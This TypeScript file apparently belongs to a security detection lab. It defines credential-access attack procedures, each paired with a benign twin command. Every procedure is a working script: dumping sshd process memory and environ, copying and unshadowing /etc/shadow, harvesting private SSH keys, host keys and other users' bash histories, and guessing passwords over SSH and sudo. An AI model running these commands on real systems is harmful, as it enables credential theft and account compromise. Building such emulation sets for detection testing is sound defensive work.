// Credential access: attack procedures of our own, each with a benign twin (see types.ts). The lab shares
// the machine's pid namespace, so a process is picked by its network namespace (the lab's own), never by
// name alone: the machine's own sshd is never read. Searches stay in the lab's overlays (/home, /root,
// /etc, /opt), never the whole disk.
import type { Technique } from './types.js';
import { INTERNET } from '../technique-lab.js';

/** The lab's sshd (the oldest sshd in this network namespace) as $pid. */
const LAB_SSHD =
  'pid=$(for p in $(pgrep -x sshd); do [ "$(readlink /proc/$p/ns/net)" = "$(readlink /proc/self/ns/net)" ] && echo $p; done | sort -n | head -n 1); [ -n "$pid" ]';
/** alice's history, as she would have left it. */
const ALICE_HISTORY = `runuser -u alice -- bash -c 'printf "mysql -u app -pS3cret-db\\nssh bob@db1\\n" >> ~/.bash_history'`;
// Six guesses: a run of five failures from one source is password guessing (ssh_failure_run); the ten of
// ssh_brute_force would need twice the connections, each waiting out PAM's delay on a two-core lab.
const WRONG_PASSWORDS = ['123456', 'password', 'qwerty', 'letmein', 'changeme', 'alice2026'];

export const credentials: Technique[] = [
  {
    id: 'T1003.007',
    name: 'Proc filesystem',
    tactic: 'credential-access',
    procedures: [
      {
        name: 'python reads sshd maps and mem',
        script: `${LAB_SSHD} && python3 -c '
import sys
pid = sys.argv[1]
total = 0
with open("/proc/%s/maps" % pid) as maps, open("/proc/%s/mem" % pid, "rb", 0) as mem:
    for line in maps:
        span, perms = line.split()[:2]
        if not perms.startswith("rw"):
            continue
        lo, hi = (int(x, 16) for x in span.split("-"))
        mem.seek(lo)
        total += len(mem.read(min(hi - lo, 1 << 20)))
print(total)' "$pid"`,
      },
      {
        name: 'dd of the heap from /proc/PID/mem',
        script: `${LAB_SSHD} && heap=$(grep -m1 '\\[heap\\]' /proc/$pid/maps | cut -d- -f1) && dd if=/proc/$pid/mem bs=4096 skip=$((0x$heap / 4096)) count=4 status=none | strings | wc -l`,
      },
      { name: 'cat /proc/PID/environ', script: `${LAB_SSHD} && cat /proc/$pid/environ | tr '\\0' '\\n' | wc -l` },
    ],
    benign: { name: 'read sshd status and own maps', script: `${LAB_SSHD} && grep -i vmrss /proc/$pid/status && head -n 1 /proc/self/maps` },
  },
  {
    id: 'T1003.008',
    name: '/etc/passwd and /etc/shadow',
    tactic: 'credential-access',
    procedures: [
      { name: 'cat /etc/shadow', script: `cat /etc/shadow | grep -v ':[*!]' | cut -d: -f1` },
      { name: 'cp shadow and passwd to /tmp', script: 'cp /etc/shadow /tmp/.s && cp /etc/passwd /tmp/.p && wc -l /tmp/.s /tmp/.p' },
      {
        name: 'python unshadow',
        script: `python3 -c '
pw = {l.split(":")[0]: l.strip().split(":") for l in open("/etc/passwd")}
for l in open("/etc/shadow"):
    name, h = l.split(":")[:2]
    if h.startswith("$") and name in pw:
        print(":".join([name, h] + pw[name][2:]))' > /tmp/.unshadowed && wc -l /tmp/.unshadowed`,
      },
    ],
    benign: { name: 'passwd -S and chage -l', script: 'passwd -S alice && chage -l alice | head -n 2' },
  },
  {
    id: 'T1552.001',
    name: 'Credentials in files',
    tactic: 'credential-access',
    procedures: [
      {
        name: 'grep -r password in /home and /etc',
        script: "printf 'DB_PASSWORD=hunter2\\n' > /home/bob/.app.conf && grep -rIl -i 'password' /home /etc 2>/dev/null | head -n 5",
      },
      {
        name: 'find .env and credentials files',
        script:
          "mkdir -p /opt/app && printf 'AWS_SECRET_ACCESS_KEY=x\\n' > /opt/app/.env && find /home /root /opt /etc \\( -name '.env' -o -name 'credentials' -o -name '.git-credentials' -o -name '.pgpass' -o -name 'wp-config.php' \\) 2>/dev/null",
      },
    ],
    benign: {
      name: 'grep a setting in sshd config, find recent conf files',
      script: "grep -r PermitRootLogin /etc/ssh/ ; find /etc -name '*.conf' -newer /etc/hostname | head -n 3",
    },
  },
  {
    id: 'T1552.003',
    name: 'Bash history',
    tactic: 'credential-access',
    procedures: [
      { name: "cat another user's .bash_history", script: `${ALICE_HISTORY} && cat /home/alice/.bash_history` },
      { name: 'grep every home history for secrets', script: `${ALICE_HISTORY} && grep -h -E 'pass|-p|ssh' /home/*/.bash_history 2>/dev/null` },
      // Relative paths: nothing on the command line names a history; the kernel's read watch sees it.
      { name: 'tar of a history by relative path', script: `${ALICE_HISTORY} && tar -C /home -czf /tmp/.h.tgz alice/.bash_history && tar -tzf /tmp/.h.tgz` },
    ],
    benign: { name: 'own history count', script: `history | tail -n 3; echo "$HISTSIZE"`, user: 'alice' },
  },
  {
    id: 'T1552.004',
    name: 'Private keys',
    tactic: 'credential-access',
    procedures: [
      {
        name: 'find and cat users private ssh keys',
        script: "for k in $(find /home /root -path '*/.ssh/id_*' ! -name '*.pub' 2>/dev/null); do cat \"$k\"; done | grep -c 'PRIVATE KEY'",
      },
      { name: 'cp the ssh host key', script: 'cp /etc/ssh/ssh_host_ed25519_key /tmp/.hk && base64 -w0 /tmp/.hk | wc -c' },
      { name: 'grep -r for PRIVATE KEY', script: "grep -rl 'PRIVATE KEY' /home /etc/ssh 2>/dev/null" },
      {
        // A script file: its command line names no key; the kernel's read watch sees the opens.
        name: 'python script globbing keys',
        script: `printf 'import glob\\nfor k in glob.glob("/home/*/.ssh/id_*") + glob.glob("/etc/ssh/*_key"):\\n    print(k, len(open(k).read()))\\n' > /root/.k.py && python3 /root/.k.py`,
      },
    ],
    benign: {
      name: 'fingerprint the host key and read a public key',
      script: 'ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub && cat /home/alice/.ssh/id_ed25519.pub',
    },
  },
  {
    id: 'T1110.001',
    name: 'Password guessing',
    tactic: 'credential-access',
    procedures: [
      {
        // From the lab's "internet" (203.0.113.7), in parallel: each failed password costs sshd's PAM delay.
        name: 'sshpass over ssh with a wordlist',
        script: `for p in ${WRONG_PASSWORDS.join(' ')}; do sshpass -p "$p" ssh -b ${INTERNET.c2} -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PreferredAuthentications=password -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 -o ConnectTimeout=5 alice@${INTERNET.web} true 2>/dev/null & done; wait; true`,
      },
      {
        name: 'sudo -S with wrong passwords',
        user: 'alice',
        // One guess per sudo, in parallel: each wrong password costs PAM's delay before sudo gives up.
        script: `for p in Wrong-1 Lab-alice-2025 alice123; do printf '%s\\n' "$p" | sudo -S -k -p '' true 2>/dev/null & done; wait; true`,
      },
    ],
    benign: { name: 'sudo with the right password', user: 'alice', script: "echo 'Lab-alice-2026' | sudo -S -k -p '' true && echo ok" },
  },
];
